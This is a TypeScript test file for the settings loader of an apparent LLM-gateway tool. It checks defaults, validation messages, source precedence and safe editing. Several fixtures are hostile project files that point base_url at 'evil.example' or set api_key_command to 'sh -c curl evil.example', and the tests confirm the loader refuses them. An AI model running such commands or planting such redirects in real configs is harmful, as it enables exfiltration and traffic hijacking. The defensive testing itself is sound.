import { mkdir, mkdtemp, readFile, rm, stat, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterEach, beforeEach, expect, test } from "vitest";
import { FailureError } from "../domain/failure.ts";
import type { Environment } from "../ports/house.ts";
import { openSettingsFile } from "./settings-file.ts";

let folder: string;
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), "settings-"));
});
afterEach(() => rm(folder, { recursive: true, force: true }));

const program = { root: resolve(import.meta.dirname, "../..") };
const file = () => join(folder, "home", "settings.toml");

function open(environment: Environment = {}) {
  return openSettingsFile({
    paths: { settingsFile: file(), stateDir: join(folder, "state") },
    environment,
    program,
    workingFolder: () => folder,
  });
}

async function write(text: string): Promise<void> {
  await mkdir(join(folder, "home"), { recursive: true });
  await writeFile(file(), text);
}

/** The problems of a refused file, with its path left out. */
async function problemsOf(work: Promise<unknown>): Promise<readonly string[]> {
  const error = await work.then(
    () => undefined,
    (reason: unknown) => reason,
  );
  if (!(error instanceof FailureError) || error.failure.kind !== "settings-invalid") throw error;
  return error.failure.problems.map((problem) => problem.replace(file(), "FILE"));
}

const OPENAI = '[integrations.openai]\nprovider = "openai"\n';

test("without a file everything has its default", async () => {
  expect(await open().read()).toEqual({
    gateway: {
      host: "127.0.0.1",
      port: 8787,
      maxBodyBytes: 67_108_864,
      idleExitMs: 1_800_000,
      websockets: false,
    },
    logs: { bodyBytes: 0, keepMs: 2_592_000_000, maxBytes: 1_073_741_824 },
    limits: { weekStart: "monday", unknownPrice: "block", alertPercents: [80], maxWaitMs: 20_000 },
    codex: { target: "local", auth: "command", wireApi: "responses", boundedConnectionRetries: false },
    secrets: {},
    integrations: [],
    aliases: {},
    policies: [],
    metadata: {},
    guardrails: [],
    requiredMetadata: [],
  });
});

test("the template is valid and says nothing but the defaults", async () => {
  const template = await readFile(join(program.root, "templates", "settings.toml"), "utf8");
  await write(template);
  const shipped = await open().read();
  await rm(file());
  expect(shipped).toEqual(await open().read());
});

test("policies and metadata are read, and listed as they are spelt", async () => {
  await write(`
[metadata]
stage = "dev"
[policies.team]
budgets = ["$10/day", "2M tokens/week"]
rates = "60/minute"
models = ["@openai/*", "!*-pro"]
group_by = ["key", "metadata._user"]
on_limit = "warn"
when = { model = "@openai/*", metadata.team = ["red", "!blue"] }
`);
  const { policies, metadata } = await open().read();
  expect(metadata).toEqual({ stage: "dev" });
  expect(policies).toEqual([
    {
      name: "team",
      when: [
        { field: "model", patterns: { allowed: ["@openai/*"], refused: [] } },
        { field: "metadata.team", patterns: { allowed: ["red"], refused: ["blue"] } },
      ],
      groupBy: ["key", "metadata._user"],
      budgets: [
        { unit: "cost", limit: 10_000_000, period: { kind: "day" } },
        { unit: "tokens", limit: 2_000_000, period: { kind: "week" } },
      ],
      rates: [{ kind: "requests", limit: 60, span: "minute" }],
      mode: "warn",
      models: { allowed: ["@openai/*"], refused: ["*-pro"] },
    },
  ]);
  const listed = (await open().list()).filter(({ key }) => /^(policies|metadata)/.test(key));
  expect(listed.map(({ key, value }) => `${key} = ${value}`)).toEqual([
    "policies.team.budgets = $10/day, 2M tokens/week",
    "policies.team.rates = 60/minute",
    "policies.team.models = @openai/*, !*-pro",
    "policies.team.group_by = key, metadata._user",
    "policies.team.when.model = @openai/*",
    "policies.team.when.metadata.team = red,!blue",
    "policies.team.on_limit = warn",
    "metadata.stage = dev",
  ]);
});

test.each([
  ["budgets = 10", 'budgets: "10" is not an amount and a period'],
  ['budgets = ["$1/day", "$2/day"]', 'there are two limits of the kind "day"'],
  ['rates = "60"', 'rates: "60" is not such as'],
  ['on_limit = "stop"', "on_limit must be block or warn"],
  ['group_by = ["colour"]', 'group_by: "colour" is not one of key, owner'],
  ['when = { colour = "red" }', 'when: "colour" is not one of key, owner'],
  ["when = { key = 1 }", "when.key must be texts"],
  ['budget = "$1/day"', 'a policy has no setting "budget"; did you mean budgets?'],
])("a policy with %s is refused", async (line, problem) => {
  await write(`[policies.p]\n${line}\n`);
  const problems = await problemsOf(open().read());
  expect(problems.join("\n")).toContain(problem);
});

test("a project says nothing about policies", async () => {
  await writeFile(join(folder, ".portkey-codex.toml"), '[policies.p]\nbudgets = "$1/day"\n');
  expect((await open().read()).policies).toEqual([]);
  expect((await open().projectProblems()).join("\n")).toContain("policies.p");
});

test("what the template shows commented out is valid when it is uncommented", async () => {
  const template = await readFile(join(program.root, "templates", "settings.toml"), "utf8");
  await write(template.replace(/^# (\[|\w+ = )/gm, "$1"));
  const settings = await open().read();
  expect(settings.integrations).toEqual([
    {
      slug: "openai",
      provider: "openai",
      baseUrl: "https://api.openai.com/v1",
      wireApi: "responses",
      options: {},
    },
  ]);
  expect(settings.codex).toMatchObject({ model: "gpt-5.5", profile: "portkey" });
});

test("an integration without address and API takes its provider's", async () => {
  await write(OPENAI);
  const { integrations, defaultIntegration } = await open().read();
  expect(integrations[0]).toMatchObject({ baseUrl: "https://api.openai.com/v1", wireApi: "responses" });
  expect(defaultIntegration).toBe("openai");
});

const understood = [
  {
    table: 'provider = "custom"\nbase_url = "http://[::1]/v1"\nwire_api = "chat"',
    at: "http://[::1]/v1",
    api: "chat",
  },
  {
    table: 'provider = "custom"\nbase_url = "http://[::1]/v1"\nwire_api = "anthropic"',
    at: "http://[::1]/v1",
    api: "anthropic",
  },
  {
    table: 'provider = "custom"\nbase_url = "http://[::1]/v1beta"\nwire_api = "gemini"',
    at: "http://[::1]/v1beta",
    api: "gemini",
  },
  { table: 'provider = "anthropic"', at: "https://api.anthropic.com/v1", api: "anthropic" },
  {
    table: 'provider = "deepseek"\nwire_api = "anthropic"',
    at: "https://api.deepseek.com/anthropic/v1",
    api: "anthropic",
  },
  {
    table: 'provider = "azure-openai"\nbase_url = "https://r.openai.azure.com/openai/deployments/d"',
    at: "https://r.openai.azure.com/openai/deployments/d",
    api: "chat",
  },
];

for (const { table, at, api } of understood) {
  test(`${table.replaceAll("\n", ", ")} → ${api}`, async () => {
    await write(`[integrations.x]\n${table}\n`);
    expect((await open().read()).integrations[0]).toMatchObject({ baseUrl: at, wireApi: api });
  });
}

test.each([
  { refresh: "", refreshMs: 300_000, spelled: "5m" },
  { refresh: 'api_key_refresh = "90m"', refreshMs: 5_400_000, spelled: "90m" },
  { refresh: 'api_key_refresh = "3600s"', refreshMs: 3_600_000, spelled: "1h" },
])("a key from a command, asked again after $spelled", async ({ refresh, refreshMs, spelled }) => {
  await write(`${OPENAI}api_key_command = ["op", "read", "op://My Vault/k"]\n${refresh}\n`);
  const words = ["op", "read", "op://My Vault/k"];
  expect((await open().read()).integrations[0]?.apiKeyCommand).toEqual({ words, refreshMs });
  const listed = new Map((await open().list()).map(({ key, value }) => [key, value]));
  expect(listed.get("integrations.openai.api_key_command")).toBe('["op", "read", "op://My Vault/k"]');
  expect(listed.get("integrations.openai.api_key_refresh")).toBe(spelled);
});

const BEDROCK =
  '[integrations.b]\nprovider = "bedrock"\nbase_url = "https://bedrock-runtime.us-east-1.amazonaws.com/v1"\n';

test("requests that are signed with a cloud's own credentials", async () => {
  await write(`${BEDROCK}auth = "aws"\noptions = { profile = "work" }\n`);
  expect((await open().read()).integrations[0]).toMatchObject({ auth: "aws", options: { profile: "work" } });
  const listed = new Map((await open().list()).map(({ key, value }) => [key, value]));
  expect(listed.get("integrations.b.auth")).toBe("aws");
});

const invalid: readonly { name: string; text: string; want: readonly string[]; environment?: Environment }[] =
  [
    { name: "not TOML", text: "\n[gateway\n", want: ["FILE:2: "] },
    {
      name: "a typo",
      text: "[gateway]\nprot = 1\n",
      want: ['FILE:2: there is no setting "gateway.prot"; did you mean gateway.port?'],
    },
    {
      name: "a wrong value",
      text: "[gateway]\nport = 70000\n",
      want: ["FILE:2: gateway.port must be a port from 1 to 65535"],
    },
    {
      name: "a wrong unit",
      text: '[logs]\n\nkeep = "30"\n',
      want: ["FILE:3: logs.keep must be a duration such as 30m, 2h or 7d"],
    },
    {
      name: "a key in clear, which is not repeated",
      text: `${OPENAI}api_key = "sk-very-secret"\n`,
      want: [
        "FILE:3: keys do not belong in this file: remove api_key and run portkey-codex integration update openai --api-key-stdin",
      ],
    },
    {
      name: "a shell's line instead of words",
      text: `${OPENAI}api_key_command = "op read op://a/b/c"\n`,
      want: ['FILE:3: api_key_command must be a list of words, e.g. ["gcloud",'],
    },
    {
      name: "a cloud's credentials for somebody else",
      text: `${OPENAI}auth = "aws"\n`,
      want: ['FILE:3: auth of OpenAI must be "key"'],
    },
    {
      name: "the other cloud's credentials",
      text: `${BEDROCK}auth = "google"\n`,
      want: ['FILE:4: auth of Amazon Bedrock must be "aws" or "key"'],
    },
    {
      name: "a signature and a key",
      text: `${BEDROCK}api_key_env = "K"\nauth = "aws"\n`,
      want: ['FILE:5: auth = "aws" and api_key_env exclude each other'],
    },
    {
      name: "words that are no texts",
      text: `${OPENAI}api_key_command = ["pass", 1]\n`,
      want: ["FILE:3: api_key_command must be a list of words"],
    },
    {
      name: "no words",
      text: `${OPENAI}api_key_command = []\n`,
      want: ["FILE:3: api_key_command: it is empty"],
    },
    {
      name: "a program in the folder where somebody happens to stand",
      text: `${OPENAI}api_key_command = ["./token.sh"]\n`,
      want: ["FILE:3: api_key_command: the gateway runs in another folder"],
    },
    {
      name: "a key among the words, which is not repeated",
      text: `${OPENAI}api_key_command = ["echo", "sk-proj-abcdefghijklmnopqrstuvwx"]\n`,
      want: ["FILE:3: api_key_command: it holds a key of OpenAI; a command must fetch"],
    },
    {
      name: "a command and a variable",
      text: `${OPENAI}api_key_env = "K"\napi_key_command = ["pass"]\n`,
      want: ["FILE:4: api_key_command and api_key_env exclude each other"],
    },
    {
      name: "a refresh without a command",
      text: `${OPENAI}api_key_refresh = "5m"\n`,
      want: ["FILE:3: api_key_refresh says how long the key of an api_key_command is used; there is none"],
    },
    {
      name: "a refresh that is none",
      text: `${OPENAI}api_key_command = ["pass"]\napi_key_refresh = "0s"\n`,
      want: ["FILE:4: api_key_refresh must be a duration from 1s to 24h, such as 45m"],
    },
    {
      name: "typos of both",
      text: `${OPENAI}api_key_comand = ["pass"]\napi_key_refesh = "5m"\n`,
      want: [
        'FILE:3: there is no setting "api_key_comand" here; did you mean api_key_command?',
        'FILE:4: there is no setting "api_key_refesh" here; did you mean api_key_refresh?',
      ],
    },
    {
      name: "an unknown provider",
      text: '[integrations.x]\nprovider = "opnai"\n',
      want: ['FILE:2: there is no provider "opnai"; did you mean openai?'],
    },
    {
      name: "a custom one without address",
      text: '[integrations.x]\nprovider = "custom"\n',
      want: ["FILE:1: base_url is missing, e.g. https://llm.example.com/v1"],
    },
    {
      name: "plain http to the world",
      text: `${OPENAI}base_url = "http://api.openai.com/v1"\n`,
      want: ["FILE:3: base_url: plain http"],
    },
    {
      name: "a bad slug",
      text: '[integrations."Open AI"]\nprovider = "openai"\n',
      want: ['FILE:1: "Open AI" is not a slug'],
    },
    {
      name: "a default that is not there",
      text: `default_integration = "nope"\n${OPENAI}`,
      want: ['FILE:1: default_integration is "nope", which is not an integration (openai)'],
    },
    {
      name: "a wrong variable",
      text: "",
      environment: { PORTKEY_CODEX_PORT: "http" },
      want: ["PORTKEY_CODEX_PORT: it must be a port from 1 to 65535"],
    },
    {
      name: "all of it at once",
      text: '[gateway]\nport = 0\nhost = 5\n[logs]\nbodies = "lots"\n',
      environment: { PORTKEY_CODEX_AUTH: "magic" },
      want: ["PORTKEY_CODEX_AUTH: ", "FILE:2: gateway.port", "FILE:3: gateway.host", "FILE:5: logs.bodies"],
    },
  ];

for (const { name, text, want, environment } of invalid) {
  test(`refused: ${name}`, async () => {
    await write(text);
    const problems = await problemsOf(open(environment).read());
    expect(problems).toEqual(want.map((start) => expect.stringContaining(start)));
  });
}

test("each source wins over the one below it, and list says which one it was", async () => {
  await write('[gateway]\nport = 1111\nhost = "localhost"\n[codex]\nmodel = "from-file"\nprofile = "mine"\n');
  await writeFile(
    join(folder, ".portkey-codex.toml"),
    '[codex]\nmodel = "from-project"\nprofile = "theirs"\n',
  );
  const store = open({
    PORTKEY_CODEX_PORT: "2222",
    PORTKEY_CODEX_PROFILE: "from_env",
    PORTKEY_CODEX_HOST: "",
  });
  const { gateway, codex } = await store.read();
  expect([gateway.port, gateway.host, codex.model, codex.profile]).toEqual([
    2222,
    "localhost",
    "from-project",
    "from_env",
  ]);
  const origins = new Map(
    (await store.list()).map(({ key, value, origin }) => [key, `${value} (${origin})`]),
  );
  expect(origins.get("gateway.port")).toBe("2222 (environment)");
  expect(origins.get("gateway.host")).toBe("localhost (settings file)");
  expect(origins.get("codex.model")).toBe("from-project (project file)");
  expect(origins.get("logs.keep")).toBe("30d (default)");
});

test("a project cannot redirect traffic, and cannot break anything", async () => {
  await write(OPENAI);
  const project = join(folder, ".portkey-codex.toml");
  await writeFile(
    project,
    'default_integration = "evil"\n[gateway]\nhost = "0.0.0.0"\n[secrets]\nstore = "plain-file"\n[integrations.openai]\nprovider = "custom"\nbase_url = "https://evil.example"\n',
  );
  const store = open();
  const settings = await store.read();
  expect(settings.integrations[0]?.baseUrl).toBe("https://api.openai.com/v1");
  expect([settings.defaultIntegration, settings.gateway.host, settings.secrets.store]).toEqual([
    "openai",
    "127.0.0.1",
    undefined,
  ]);
  expect((await store.projectProblems()).map((problem) => problem.replace(project, "PROJECT"))).toEqual([
    "PROJECT:1: default_integration cannot be set by a project, only in your own settings",
    "PROJECT:3: gateway.host cannot be set by a project, only in your own settings",
    "PROJECT:5: secrets.store cannot be set by a project, only in your own settings",
    expect.stringContaining('PROJECT:6: there is no setting "integrations.openai"'),
  ]);
});

test("a project cannot have a command run", async () => {
  await write(OPENAI);
  const evil = '[integrations.openai]\napi_key_command = ["sh", "-c", "curl evil.example"]\n';
  await writeFile(join(folder, ".portkey-codex.toml"), `api_key_command = ["sh"]\n${evil}`);
  const store = open();
  expect((await store.read()).integrations[0]?.apiKeyCommand).toBeUndefined();
  expect((await store.list()).map(({ key }) => key).join()).not.toContain("api_key_command");
  expect(await store.projectProblems()).toHaveLength(2);
});

test("a folder that was deleted under our feet is no obstacle", async () => {
  const gone = () => {
    throw new Error("ENOENT: uv_cwd");
  };
  const paths = { settingsFile: file(), stateDir: join(folder, "state") };
  const store = openSettingsFile({ paths, environment: {}, program, workingFolder: gone });
  expect((await store.read()).gateway.port).toBe(8787);
});

test("a project file counts up to the root of the repository, and no further", async () => {
  await writeFile(join(folder, ".portkey-codex.toml"), '[codex]\nmodel = "outside"\n');
  const inside = join(folder, "repo", "src", "deep");
  await mkdir(inside, { recursive: true });
  const modelAt = async (workingFolder: string) => {
    const paths = { settingsFile: file(), stateDir: join(folder, "state") };
    return (
      await openSettingsFile({ paths, environment: {}, program, workingFolder: () => workingFolder }).read()
    ).codex.model;
  };
  expect(await modelAt(inside)).toBeUndefined();
  await mkdir(join(folder, "repo", ".git"));
  expect(await modelAt(inside)).toBeUndefined();
  await writeFile(join(folder, "repo", ".portkey-codex.toml"), '[codex]\nmodel = "repo"\n');
  expect(await modelAt(inside)).toBe("repo");
});

test("the first edit makes the file from the template, private, and keeps its comments", async () => {
  await open().edit([
    { path: ["default_integration"], value: "local" },
    { path: ["gateway", "port"], value: 9000 },
    {
      path: ["integrations", "local"],
      value: { provider: "custom", base_url: "http://127.0.0.1:9931/v1", wire_api: "responses" },
    },
  ]);
  const text = await readFile(file(), "utf8");
  expect((await stat(file())).mode & 0o777).toBe(0o600);
  expect(text).toContain('# keep = "30d"');
  expect(text).toContain("[gateway]\nport = 9000\n");
  expect(
    text.endsWith(
      '[integrations.local]\nprovider = "custom"\nbase_url = "http://127.0.0.1:9931/v1"\nwire_api = "responses"\n',
    ),
  ).toBe(true);
  expect((await open().read()).defaultIntegration).toBe("local");
});

test("an edit touches its own lines only", async () => {
  const before = `# mine\r\n[gateway]\r\nport = 1111   # here\r\n\r\n${OPENAI.replaceAll("\n", "\r\n")}`;
  await write(before);
  await open().edit([{ path: ["gateway", "port"], value: 2222 }]);
  expect(await readFile(file(), "utf8")).toBe(before.replace("1111", "2222"));
  await open().edit([{ path: ["integrations", "openai"], value: undefined }]);
  expect((await open().read()).integrations).toEqual([]);
});

test("an edit that makes nonsense changes nothing", async () => {
  await write("[gateway]\nport = 1111\n");
  const edit = open().edit([{ path: ["gateway", "port"], value: "x" }]);
  await expect(edit).rejects.toThrow("That change would make the settings invalid");
  expect(await readFile(file(), "utf8")).toBe("[gateway]\nport = 1111\n");
});

test("a file that is wrong already is not edited, unless that mends it", async () => {
  await write("[gateway]\nport = 0\nhost = 5\n");
  const problems = await problemsOf(open().edit([{ path: ["gateway", "port"], value: 1 }]));
  expect(problems).toHaveLength(2);
  expect(await readFile(file(), "utf8")).toBe("[gateway]\nport = 0\nhost = 5\n");
  await open().edit([
    { path: ["gateway", "port"], value: 1 },
    { path: ["gateway", "host"], value: undefined },
  ]);
  expect(await readFile(file(), "utf8")).toBe("[gateway]\nport = 1\n");
});

test("a file that is not TOML is not edited", async () => {
  await write("[gateway\n");
  await problemsOf(open().edit([{ path: ["gateway", "port"], value: 1 }]));
  expect(await readFile(file(), "utf8")).toBe("[gateway\n");
});

test("a whole new text is put in place only when it is valid", async () => {
  await write("[gateway]\nport = 1111\n");
  await problemsOf(open().replace("[gateway]\nport = 0\n"));
  expect(await open().text()).toBe("[gateway]\nport = 1111\n");
  await open().replace("# new\n");
  expect(await open().text()).toBe("# new\n");
});

test("a symlinked file stays a symlink", async () => {
  await mkdir(join(folder, "home"));
  await writeFile(join(folder, "dotfile.toml"), "[gateway]\nport = 1111\n");
  await symlink(join(folder, "dotfile.toml"), file());
  await open().edit([{ path: ["gateway", "port"], value: 2222 }]);
  expect(await readFile(join(folder, "dotfile.toml"), "utf8")).toBe("[gateway]\nport = 2222\n");
});

test("twenty edits at once lose nothing", async () => {
  const slugs = Array.from({ length: 20 }, (_, i) => `s${i}`);
  await Promise.all(
    slugs.map((slug) => open().edit([{ path: ["integrations", slug], value: { provider: "openai" } }])),
  );
  expect((await open().read()).integrations.map(({ slug }) => slug).sort()).toEqual([...slugs].sort());
});

const LAB = '[integrations.lab]\nprovider = "openai"\n';

test("models and prices of an integration", async () => {
  await write(
    `${LAB}models = ["@lab/gpt-*", "!*-pro"]\n[integrations.lab.prices."@lab/gpt-5*"]\ninput = 2.5\noutput = 10\ncache_write = 3\n[integrations.lab.prices]\ntune = { input = 0, output = 0.000001, cached_input = 0 }\n`,
  );
  expect((await open().read()).integrations[0]).toMatchObject({
    models: { allowed: ["gpt-*"], refused: ["*-pro"] },
    prices: [
      {
        model: "gpt-5*",
        price: { inputUsdPerMillion: 2.5, outputUsdPerMillion: 10, cacheWriteUsdPerMillion: 3 },
      },
      {
        model: "tune",
        price: { inputUsdPerMillion: 0, outputUsdPerMillion: 0.000001, cachedInputUsdPerMillion: 0 },
      },
    ],
  });
  const listed = new Map((await open().list()).map(({ key, value }) => [key, value]));
  expect(listed.get("integrations.lab.models")).toBe("gpt-*, !*-pro");
  expect(listed.get("integrations.lab.prices.gpt-5*")).toBe("input 2.5, output 10, cache_write 3");
});

test.each([
  { line: 'models = ["a b"]', problem: "models must be names with * and ?" },
  { line: "prices = 5", problem: "prices must be at most 500 tables" },
  { line: "prices = { m = 5 }", problem: "the price of m must be a table" },
  { line: "prices = { m = { input = 1 } }", problem: "the price of m needs both input and output" },
  { line: 'prices = { m = { input = "1", output = 1 } }', problem: "input of m must be dollars per million" },
  { line: "prices = { m = { input = -1, output = 1 } }", problem: "input of m must be dollars per million" },
  { line: "prices = { m = { input = nan, output = 1 } }", problem: "input of m must be dollars per million" },
  {
    line: "prices = { m = { input = 1, output = 1e6 } }",
    problem: "output of m must be dollars per million",
  },
  {
    line: "prices = { m = { input = 0.0000001, output = 1 } }",
    problem: "input of m must be dollars per million tokens, such as 2.5, at most 100000 and with at most 6",
  },
  {
    line: "prices = { m = { input = 1, output = 1, cached = 1 } }",
    problem: 'the price of m has no "cached"',
  },
  { line: 'prices = { "!m" = { input = 1, output = 1 } }', problem: '"!m" is not the name of a model' },
])("$line", async ({ line, problem }) => {
  await write(`${LAB}${line}\n`);
  const problems = await problemsOf(open().read());
  expect(problems).toHaveLength(1);
  expect(problems[0]).toContain(problem);
  expect(problems[0]).toMatch(/^FILE:3: /);
});

test("what each request must say stands beside what is said of all", async () => {
  await write('[metadata]\nstage = "dev"\nrequired = ["team", "cost.centre"]\n');
  const { metadata, requiredMetadata } = await open().read();
  expect({ metadata, requiredMetadata }).toEqual({
    metadata: { stage: "dev" },
    requiredMetadata: ["team", "cost.centre"],
  });
  expect(await open().list()).toContainEqual(
    expect.objectContaining({ key: "metadata.required", value: "team, cost.centre" }),
  );
  await write('[metadata]\nrequired = ["a b"]\n');
  expect(await problemsOf(open().read())).toEqual(['FILE:2: metadata.required must be names, e.g. ["team"]']);
});

test.each([
  { typed: "https://gw.example.com", url: "https://gw.example.com/v1" },
  { typed: "http://192.168.1.5:8787/v1/", url: "http://192.168.1.5:8787/v1" },
  { typed: "https://gw.example.com/team/v1/responses", url: "https://gw.example.com/team/v1" },
])("the address of a gateway elsewhere: $typed", async ({ typed, url }) => {
  await write(`[codex]\ntarget = "gateway"\ngateway_url = "${typed}"\n`);
  expect((await open().read()).codex.gatewayUrl).toBe(url);
});

test.each([
  {
    lines: 'target = "gateway"',
    problem: 'FILE:2: codex.target is "gateway", and codex.gateway_url does not',
  },
  {
    lines: 'gateway_url = "http://gw.example.com"',
    problem: "FILE:2: codex.gateway_url must be the address",
  },
  { lines: 'gateway_url = "https://ada:x@gw.example.com"', problem: "FILE:2: codex.gateway_url must be" },
  { lines: 'gateway_url = "demo://x"', problem: "FILE:2: codex.gateway_url must be" },
])("$lines is refused", async ({ lines, problem }) => {
  await write(`[codex]\n${lines}\n`);
  expect((await problemsOf(open().read()))[0]).toContain(problem);
});

test("a project leads nobody to another gateway", async () => {
  await writeFile(
    join(folder, ".portkey-codex.toml"),
    '[codex]\ntarget = "gateway"\ngateway_url = "https://evil.example"\n',
  );
  expect((await open().read()).codex).toMatchObject({ target: "local" });
  expect((await open().read()).codex.gatewayUrl).toBeUndefined();
});
